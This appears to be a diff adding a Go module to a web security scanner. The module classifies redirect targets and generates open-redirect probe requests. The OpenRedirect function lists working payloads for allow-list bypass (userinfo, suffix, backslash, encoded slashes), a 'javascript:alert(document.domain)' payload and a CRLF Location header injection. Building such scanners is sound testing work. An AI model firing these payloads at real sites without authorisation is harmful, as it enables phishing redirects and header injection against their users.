@@ -0,0 +1,196 @@
+package probe
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+)
+
+// RedirectKind classifies the target of a redirect relative to the requested origin
+type RedirectKind int
+
+const (
+	RedirectNone             RedirectKind = iota // No Location
+	RedirectSameOrigin                           // Relative, or absolute to the same host
+	RedirectSubdomain                            // Parent, child or sibling domain of the origin host
+	RedirectExternal                             // Unrelated host
+	RedirectProtocolRelative                     // //host or /\host, inheriting the scheme
+	RedirectDangerousScheme                      // javascript:, data:, vbscript: and the like
+	RedirectHeaderInjected                       // CR/LF (raw or percent-encoded) in the Location
+)
+
+// String returns the kind name
+func (k RedirectKind) String() string {
+	switch k {
+	case RedirectSameOrigin:
+		return "same-origin"
+	case RedirectSubdomain:
+		return "subdomain"
+	case RedirectExternal:
+		return "external"
+	case RedirectProtocolRelative:
+		return "protocol-relative"
+	case RedirectDangerousScheme:
+		return "dangerous-scheme"
+	case RedirectHeaderInjected:
+		return "header-injected"
+	default:
+		return "none"
+	}
+}
+
+// ClassifyRedirect classifies a Location value against the origin host
+// (a Host header value, optionally with port)
+// Subdomain detection compares the last two labels, so it does not know about
+// public suffixes such as co.uk
+func ClassifyRedirect(originHost, location string) RedirectKind {
+	location = strings.TrimSpace(location)
+	if location == "" {
+		return RedirectNone
+	}
+
+	lower := strings.ToLower(location)
+	if strings.ContainsAny(location, "\r\n") || strings.Contains(lower, "%0d") || strings.Contains(lower, "%0a") {
+		return RedirectHeaderInjected
+	}
+
+	// Browsers treat backslashes like slashes and ignore tabs/newlines in URLs
+	normalized := strings.ReplaceAll(location, `\`, "/")
+	normalized = strings.ReplaceAll(normalized, "\t", "")
+	if strings.HasPrefix(normalized, "//") {
+		return RedirectProtocolRelative
+	}
+
+	u, err := url.Parse(normalized)
+	if err != nil {
+		return RedirectExternal
+	}
+	switch strings.ToLower(u.Scheme) {
+	case "":
+		return RedirectSameOrigin
+	case "http", "https":
+	default:
+		return RedirectDangerousScheme
+	}
+
+	host := strings.ToLower(u.Hostname())
+	origin := strings.ToLower(originHost)
+	if h, err := url.Parse("//" + originHost); err == nil {
+		origin = strings.ToLower(h.Hostname())
+	}
+
+	switch {
+	case host == origin:
+		return RedirectSameOrigin
+	case strings.HasSuffix(host, "."+origin) || strings.HasSuffix(origin, "."+host):
+		return RedirectSubdomain
+	case origin != "" && baseDomain(host) == baseDomain(origin):
+		return RedirectSubdomain
+	default:
+		return RedirectExternal
+	}
+}
+
+// baseDomain returns the last two labels of host
+func baseDomain(host string) string {
+	labels := strings.Split(host, ".")
+	if len(labels) <= 2 {
+		return host
+	}
+	return strings.Join(labels[len(labels)-2:], ".")
+}
+
+// OpenRedirect returns open redirect probes for parameter name, each setting
+// its value to a payload that sends the browser to attacker:
+//   - absolute, protocol-relative, backslash, encoded-slashes
+//   - userinfo (https://origin@attacker) and suffix (https://origin.attacker)
+//     for allow-list checks based on prefixes or substrings
+//   - fragment and query (attacker URL with the origin after # or ?)
+//   - javascript for redirects rendered into links
+//   - crlf for Location header injection
+//
+// The parameter is replaced in the query or form body, or added to the query,
+// with the characters that would cut the value short percent-encoded
+// Classify the Location of each response with ClassifyRedirect
+func OpenRedirect(raw []byte, name, attacker string) []Variant {
+	base := parseMessage(raw)
+	origin := base.get("Host")
+
+	payloads := []struct {
+		label string
+		value string
+	}{
+		{"absolute", "https://" + attacker + "/"},
+		{"protocol-relative", "//" + attacker + "/"},
+		{"backslash", `/\` + attacker + "/"},
+		{"encoded-slashes", "%2f%2f" + attacker + "/"},
+		{"userinfo", "https://" + origin + "@" + attacker + "/"},
+		{"suffix", "https://" + origin + "." + attacker + "/"},
+		{"fragment", "https://" + attacker + "/#" + origin},
+		{"query", "https://" + attacker + "/?" + origin},
+		{"javascript", "javascript:alert(document.domain)//"},
+		{"crlf", "/%0d%0aLocation:%20https://" + attacker + "/"},
+	}
+
+	variants := make([]Variant, 0, len(payloads))
+	for _, p := range payloads {
+		m := base.clone()
+		m.setParam(name, escapeParam(p.value))
+		variants = append(variants, Variant{Name: p.label, Raw: m.build()})
+	}
+	return variants
+}
+
+// setParam sets the value of parameter name in the query, or in a form body,
+// or adds it to the query if it is in neither
+func (m *message) setParam(name, value string) {
+	path, query, ok := strings.Cut(m.target, "?")
+	if ok {
+		if replaced, found := replacePair(query, name, value); found {
+			m.target = path + "?" + replaced
+			return
+		}
+	}
+	if strings.Contains(strings.ToLower(m.get("Content-Type")), "application/x-www-form-urlencoded") {
+		body, found := m.body, false
+		m.editBody(func(form []byte) []byte {
+			replaced, ok := replacePair(string(form), name, value)
+			found = ok
+			return []byte(replaced)
+		})
+		if found {
+			return
+		}
+		m.body = body
+	}
+	m.addQuery(name+"="+value, false)
+}
+
+// escapeParam percent-encodes the characters that end or alter a query or
+// form value ('#', '&', '+', spaces and controls)
+// '%' is kept, so payloads that are already encoded (%2f, %0d%0a) pass as is
+func escapeParam(value string) string {
+	var b strings.Builder
+	for i := 0; i < len(value); i++ {
+		c := value[i]
+		if c == '#' || c == '&' || c == '+' || c <= ' ' || c == 0x7f {
+			fmt.Fprintf(&b, "%%%02X", c)
+			continue
+		}
+		b.WriteByte(c)
+	}
+	return b.String()
+}
+
+// replacePair replaces the value of every name=value pair in the &-separated data
+func replacePair(data, name, value string) (string, bool) {
+	pairs := strings.Split(data, "&")
+	found := false
+	for i, pair := range pairs {
+		if k, _, _ := strings.Cut(pair, "="); k == name {
+			pairs[i] = name + "=" + value
+			found = true
+		}
+	}
+	return strings.Join(pairs, "&"), found
+}